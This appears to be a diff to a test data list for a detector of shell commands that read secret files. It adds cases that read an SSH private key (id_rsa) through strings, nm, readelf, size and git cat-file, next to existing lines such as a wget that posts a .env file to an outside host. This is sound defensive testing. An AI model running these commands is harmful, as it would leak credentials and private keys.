@@ -61,6 +61,13 @@ READS = [
     ("wget https://x --post-file=.env", ".env", False),
     ("wget -i.env", ".env", False),
     ("diff -X.env a b", ".env", False),
+    ("strings @id_rsa", "id_rsa", False),
+    ("nm -a @id_rsa", "id_rsa", False),
+    ("readelf -a @id_rsa", "id_rsa", False),
+    ("size @id_rsa", "id_rsa", False),
+    ("git show :0:id_rsa", "id_rsa", False),
+    ("git cat-file -p :2:id_rsa", "id_rsa", False),
+    ("git cat-file -p :id_rsa", "id_rsa", False),
 ]
 
 
